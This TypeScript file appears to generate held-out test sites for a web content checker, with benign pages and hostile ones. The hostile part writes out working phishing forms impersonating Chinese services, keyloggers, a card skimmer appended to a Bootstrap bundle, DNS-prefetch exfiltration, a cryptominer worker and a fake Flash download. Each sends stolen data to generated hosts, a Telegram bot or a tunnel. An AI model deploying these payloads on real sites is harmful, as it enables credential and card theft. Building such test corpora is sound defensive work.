/**
 * The held-out part of the evaluation corpus (docs/content-check.md "Evaluation"): other sites and
 * other kits than corpus.ts, with a seed of their own (random unless given). Rule changes are not
 * tuned on it: it is run to see whether what was tuned on the other part holds.
 */
import {
  BOOTSTRAP_JS,
  b64,
  charCodes,
  type EvalSite,
  esbuildBundle,
  obfuscate,
  page,
  type Rng,
  viteBuild,
} from './kit.js';

export async function heldOutOrdinary(r: Rng): Promise<EvalSite[]> {
  const sites: EvalSite[] = [];
  const add = (name: string, what: string, files: EvalSite['files']) =>
    sites.push({ group: 'ordinary', name, what, files });

  add(
    'vite-gallery',
    'Vite build of a photo gallery with a lightbox and analytics',
    await viteBuild({
      'index.html': page(
        '摄影作品',
        '<script async src="https://www.googletagmanager.com/gtag/js?id=G-TEST1234"></script>',
        '<div id="g"></div><script type="module" src="/src/main.js"></script>',
      ),
      'src/main.js': `const photos = ['a', 'b', 'c'];\nconst g = document.getElementById('g');\nfor (const p of photos) { const img = document.createElement('img'); img.src = './' + p + '.svg'; img.alt = p; img.addEventListener('click', () => { document.body.classList.toggle('zoom'); }); g.append(img); }\ndocument.addEventListener('keydown', (e) => { if (e.key === 'Escape') document.body.classList.remove('zoom'); });\n`,
    }),
  );

  add('emailjs-contact', 'contact form sent through EmailJS', {
    'index.html': page(
      '联系我们',
      '<script src="https://cdn.jsdelivr.net/npm/@emailjs/browser@4/dist/email.min.js"></script>',
      `<form id="c"><input name="from_name" placeholder="称呼"><input name="reply_to" placeholder="邮箱"><textarea name="message"></textarea><button>发送</button></form>
<script>emailjs.init({ publicKey: '${r.word(16)}' }); document.getElementById('c').addEventListener('submit', function (e) { e.preventDefault(); emailjs.sendForm('service_${r.word(6)}', 'template_${r.word(6)}', this).then(() => alert('已发送')); });</script>`,
    ),
  });

  add('twikoo-music', 'Twikoo comments and a NetEase music player', {
    'index.html': page(
      '随笔',
      '<script src="https://cdn.staticfile.net/twikoo/1.6.39/twikoo.all.min.js"></script>',
      `<article><h1>周末</h1></article><iframe frameborder="no" border="0" marginwidth="0" marginheight="0" width=330 height=86 src="//music.163.com/outchain/player?type=2&id=${r.int(1e8)}&auto=0&height=66"></iframe>
<div id="tcomment"></div><script>window.twikoo && twikoo.init({ envId: 'https://twikoo-${r.word(6)}.vercel.app', el: '#tcomment' });</script>`,
    ),
  });

  add('shop-card-demo', 'course e-commerce demo with a card field that goes nowhere', {
    'index.html': page(
      '课程设计：网上书店',
      '',
      `<h1>购物车</h1><form action="#" id="pay"><input name="card" placeholder="银行卡号（演示）"><input type="password" name="pin" placeholder="支付密码（演示）"><button>提交订单</button></form>
<script>document.getElementById('pay').onsubmit = function () { alert('演示项目：订单已提交'); localStorage.removeItem('cart'); return false; };</script>`,
    ),
  });

  add('bootstrap-landing', 'landing page with the real Bootstrap bundle and a Tencent survey link', {
    'index.html': page(
      '志愿者招募',
      '<link href="https://cdn.bootcdn.net/ajax/libs/twitter-bootstrap/5.3.2/css/bootstrap.min.css" rel="stylesheet">',
      `<div class="container"><h1>志愿者招募</h1><a class="btn btn-success" href="https://wj.qq.com/s2/${r.int(1e7)}/${r.word(4)}/">填写报名问卷</a></div><script src="js/bootstrap.bundle.min.js"></script>`,
    ),
    'js/bootstrap.bundle.min.js': BOOTSTRAP_JS(),
  });

  add('esbuild-quiz', 'quiz app bundled by esbuild, scores kept locally, reads keys', {
    'index.html': page('答题', '', '<div id="q"></div><script src="bundle.js"></script>'),
    'bundle.js': await esbuildBundle(
      `const qs = [{ q: '1+1=?', a: '2' }, { q: '中国首都？', a: '北京' }]; let i = 0, score = 0;\nconst el = document.getElementById('q');\nconst show = () => { el.innerHTML = i < qs.length ? '<p>' + qs[i].q + '</p><input id="a">' : '<p>得分 ' + score + '</p>'; };\ndocument.addEventListener('keyup', (e) => { if (e.key !== 'Enter' || i >= qs.length) return; if (document.getElementById('a').value.trim() === qs[i].a) score++; i++; show(); localStorage.setItem('score', String(score)); });\nshow();\n`,
    ),
  });

  add('obfuscated-puzzle', 'puzzle homework obfuscated (light)', {
    'index.html': page('数字华容道', '', '<div id="b"></div><script src="p.js"></script>'),
    'p.js': await obfuscate(
      `var n = [1,2,3,4,5,6,7,8,0].sort(function(){return Math.random()-0.5}); var b = document.getElementById('b'); function draw(){ b.textContent = n.join(' '); } document.addEventListener('keydown', function(e){ var z = n.indexOf(0); var t = e.key === 'ArrowLeft' ? z + 1 : e.key === 'ArrowRight' ? z - 1 : -1; if (t >= 0 && t < 9) { n[z] = n[t]; n[t] = 0; draw(); } }); draw();`,
      r.int(1e6),
      false,
    ),
  });

  add('supabase-guestbook', 'guestbook writing rows to Supabase', {
    'index.html': page(
      '留言板',
      '<script src="https://unpkg.com/@supabase/supabase-js@2"></script>',
      `<form id="m"><input name="name" placeholder="昵称"><textarea name="text"></textarea><button>留言</button></form><ul id="l"></ul>
<script>const sb = supabase.createClient('https://${r.word(20)}.supabase.co', 'eyJ${r.word(30)}');
document.getElementById('m').onsubmit = async (e) => { e.preventDefault(); await sb.from('messages').insert({ name: e.target.name.value, text: e.target.text.value }); };
sb.from('messages').select('*').then(({ data }) => (data || []).forEach((m) => { const li = document.createElement('li'); li.textContent = m.name + '：' + m.text; document.getElementById('l').append(li); }));</script>`,
    ),
  });

  add('amap-shop', 'shop page with an AMap JS API map', {
    'index.html': page(
      '奶茶店',
      `<script src="https://webapi.amap.com/maps?v=2.0&key=${r.word(32)}"></script>`,
      `<h1>门店地址</h1><div id="map" style="height:300px"></div><script>if (window.AMap) new AMap.Map('map', { zoom: 15, center: [116.39, 39.9] });</script>`,
    ),
  });

  add('redirect-notice', 'moved-site notice with a link (no automatic redirect)', {
    'index.html': page(
      '网站已迁移',
      '',
      `<p>本站已迁移到新地址，请<a href="https://new-${r.word(5)}.github.io/">点击访问</a>。</p>`,
    ),
  });

  add('srcdoc-quiz', 'quiz in a srcdoc frame with radio buttons, scored locally', {
    'index.html': page(
      '党史知识竞答',
      '',
      `<h1>知识竞答</h1><iframe width="400" height="240" srcdoc="${page(
        '题目',
        '',
        `<form id='q'><p>1921 年……</p><label><input type='radio' name='a' value='1'>A</label><label><input type='radio' name='a' value='2'>B</label><select name='s'><option value=''>难度</option><option value='e'>易</option></select><button>交卷</button></form><script>document.getElementById('q').onsubmit = function (e) { e.preventDefault(); localStorage.setItem('score', this.a.value === '1' ? 100 : 0); alert('得分已保存'); };</script>`,
      ).replace(/"/g, '&quot;')}"></iframe>`,
    ),
  });

  add('newsletter-consent', 'newsletter sign-up with a consent checkbox, sent to Getform', {
    'index.html': page(
      '订阅周报',
      '',
      `<form id="n" action="https://getform.io/f/${r.word(10)}" method="POST"><input type="email" name="email" placeholder="邮箱" required><label><input type="checkbox" name="consent" required>同意接收邮件</label><button>订阅</button></form>
<script>document.getElementById('n').onsubmit = function (e) { e.preventDefault(); if (!this.consent.checked) return; fetch(this.action, { method: 'POST', body: new FormData(this) }); };</script>`,
    ),
  });

  return sites;
}

export async function heldOutHostile(r: Rng): Promise<EvalSite[]> {
  const sites: EvalSite[] = [];
  const add = (name: string, what: string, files: EvalSite['files']) =>
    sites.push({ group: 'hostile', name, what, files });
  const drop = () => `https://${r.host()}/${r.word(4)}`;
  const form = (brand: string, lure: string, fields: string) =>
    `<h2>${brand}</h2><p>${lure}</p><form id="x">${fields}<button>下一步</button></form>`;

  add('taobao-jquery-ajax', 'Taobao phishing posting with $.ajax (jQuery from a CDN)', {
    'index.html': page(
      '淘宝网 - 登录',
      '<script src="https://cdn.jsdelivr.net/npm/jquery@3.7.1/dist/jquery.min.js"></script>',
      `${form('淘宝', '您的店铺因违规被限制，请登录申诉', '<input name="acc" placeholder="账号"><input type="password" name="pass" placeholder="密码">')}
<script>$('#x').on('submit', function (e) { e.preventDefault(); $.ajax({ url: '${drop()}', type: 'POST', data: $(this).serialize() }); });</script>`,
    ),
  });

  add('sms-code-phish', 'SMS-code phishing ("社保补贴") to a Telegram bot, host split', {
    'index.html': page(
      '社保补贴领取',
      '',
      `${form('人社局', '您有一笔社保补贴待领取，逾期作废', '<input name="name" placeholder="姓名"><input name="sfz" placeholder="身份证号"><input name="phone" placeholder="手机号"><input name="yzm" placeholder="短信验证码">')}
<script>var a = 'api.tele', b = 'gram.org'; document.getElementById('x').onsubmit = function (e) { e.preventDefault(); var t = [].map.call(this.elements, function (i) { return i.name + '=' + i.value; }).join('&');
fetch('https://' + a + b + '/bot${r.int(1e9)}:AA${r.word(30)}/sendMessage', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ chat_id: ${r.int(1e9)}, text: t }) }); };</script>`,
    ),
  });

  add('beacon-interval-keylogger', 'keylogger flushing every few seconds by sendBeacon, host base64', {
    'index.html': page('在线记事本', '', '<textarea></textarea><script src="k.js"></script>'),
    'k.js': `var q = []; addEventListener('keypress', function (e) { q.push(e.key); }); setInterval(function () { if (q.length) { navigator.sendBeacon(atob('${b64(drop())}'), q.join('')); q = []; } }, 3000);`,
  });

  add('skimmer-in-bootstrap', 'card skimmer appended to the real bootstrap.bundle.min.js', {
    'index.html': page(
      '会员充值',
      '',
      `<form id="p"><input name="cc" placeholder="信用卡号"><input name="cvv" placeholder="CVV"><button>充值</button></form><script src="bootstrap.bundle.min.js"></script>`,
    ),
    'bootstrap.bundle.min.js': `${BOOTSTRAP_JS()}\n!function(){var u=String.fromCharCode(${charCodes(drop())});document.addEventListener("submit",function(e){var f=new FormData(e.target),s=[];f.forEach(function(v,k){s.push(k+"="+v)});var x=new XMLHttpRequest;x.open("POST",u);x.send(s.join("&"))},!0)}();`,
  });

  add('tunnel-drop', 'Douyin phishing posting to a tunnel', {
    'index.html': page(
      '抖音 - 领取红包',
      '',
      `${form('抖音', '恭喜获得 888 元红包，登录即可领取', '<input name="phone" placeholder="手机号"><input type="password" name="pw" placeholder="密码">')}
<script>document.getElementById('x').onsubmit = function (e) { e.preventDefault(); fetch('https://${r.word(8)}.ngrok-free.app/c', { method: 'POST', body: new FormData(this) }); };</script>`,
    ),
  });

  add('dns-prefetch-channel', 'data leaked through DNS-prefetch links', {
    'index.html': page(
      '问卷调查',
      '',
      `${form('问卷', '填写问卷领取奖品', '<input name="phone" placeholder="手机号"><input type="password" name="pw" placeholder="QQ 密码">')}
<script>document.getElementById('x').onsubmit = function (e) { e.preventDefault(); var d = Array.from(new FormData(this).values()).join('.').replace(/[^a-z0-9.]/gi, ''); var l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//' + d + '.${r.word(6)}.top'; document.head.appendChild(l); };</script>`,
    ),
  });

  add('heavy-obfuscated-keylogger', 'keylogger run through javascript-obfuscator (heavy)', {
    'index.html': page('输入法测试', '', '<input placeholder="随便打字"><script src="im.js"></script>'),
    'im.js': await obfuscate(
      `var b = ''; document.addEventListener('keydown', function (e) { b += e.key; if (b.length > 10) { var i = new Image(); i.src = '${drop()}?k=' + encodeURIComponent(b); b = ''; } });`,
      r.int(1e6),
    ),
  });

  add('lottery-scam', 'lottery plan scam, no script', {
    'index.html': page(
      '幸运飞艇计划群',
      '',
      `<h1>幸运飞艇 时时彩 精准计划</h1><p>导师带单，包中回本，日赚 3000+，进群领取免费计划！</p><p>联系 QQ：${r.int(9e8) + 1e8}　Telegram：@plan_${r.word(6)}</p><img src="qr.svg" alt="扫码进群 二维码">`,
    ),
    'qr.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"/>',
  });

  add('meta-refresh-scam', 'meta refresh to a scam after 2 s', {
    'index.html': page(
      '跳转中',
      `<meta http-equiv="refresh" content="2;url=https://${r.host()}/go">`,
      '<p>正在跳转……</p>',
    ),
  });

  add('exe-download', 'fake Flash update pushing an .exe', {
    'index.html': page(
      'Flash Player 更新',
      '',
      `<h1>您的 Flash Player 版本过低</h1><a href="https://${r.host()}/flash_update.exe" id="d">立即更新</a><script>setTimeout(function () { document.getElementById('d').click(); }, 1000);</script>`,
    ),
  });

  add('cloak-webdriver', 'phishing hidden from automation (navigator.webdriver, screen size)', {
    'index.html': page(
      '欢迎',
      '',
      `<p>Hello</p><script>if (!navigator.webdriver && screen.width < 900) { document.body.innerHTML = ${JSON.stringify(form('支付宝', '账户异常，请验证', '<input name="u"><input type="password" name="p">'))}; document.getElementById('x').onsubmit = function (e) { e.preventDefault(); fetch('${drop()}', { method: 'POST', body: new FormData(this) }); }; }</script>`,
    ),
  });

  add('miner-worker', 'miner started in a Web Worker from a blob', {
    'index.html': page(
      '在线看剧',
      '',
      `<h1>热播剧</h1><script>var code = 'var ws = new WebSocket("wss://${r.host()}/pool"); ws.onopen = function () { ws.send(JSON.stringify({ method: "login", params: { login: "${r.word(40)}", pass: "x", agent: "xmrig" } })); };'; new Worker(URL.createObjectURL(new Blob([code]))); /* cryptonight, stratum */</script>`,
    ),
  });

  add('srcdoc-radio-phish', 'WeChat Pay phishing in a srcdoc frame, sending only once a radio is picked', {
    'index.html': page(
      '微信支付 - 退款',
      '',
      `<h1>退款通知</h1><iframe width="420" height="300" style="border:0" srcdoc="${page(
        '退款',
        '',
        `<form id='r'><p>您有一笔退款待领取</p><label><input type='radio' name='m' value='1'>原路退回</label><label><input type='radio' name='m' value='2'>退到银行卡</label><input name='card' placeholder='银行卡号'><input name='phone' placeholder='预留手机号'><button>领取退款</button></form><script>document.getElementById('r').onsubmit = function (e) { e.preventDefault(); if (!this.m.value) return; fetch('${drop()}', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ c: this.card.value, p: this.phone.value }) }); };</script>`,
      ).replace(/"/g, '&quot;')}"></iframe>`,
    ),
  });

  add('base32-dns-channel', 'ID numbers sent as base32 DNS-prefetch labels', {
    'index.html': page(
      '医保卡激活',
      '',
      `${form('医保局', '医保卡未激活将影响报销，请立即激活', '<input name="n" placeholder="姓名"><input name="id" placeholder="身份证号码">')}
<script>var A = 'abcdefghijklmnopqrstuvwxyz234567'; function b32(s) { var bits = '', out = ''; for (var i = 0; i < s.length; i++) bits += ('00000000' + s.charCodeAt(i).toString(2)).slice(-8); for (var j = 0; j < bits.length; j += 5) out += A[parseInt((bits.slice(j, j + 5) + '0000').slice(0, 5), 2)]; return out; }
document.getElementById('x').onsubmit = function (e) { e.preventDefault(); var l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//' + b32(this.id.value) + '.${r.word(6)}.${r.pick(['top', 'icu', 'vip'])}'; document.head.appendChild(l); };</script>`,
    ),
  });

  return sites;
}
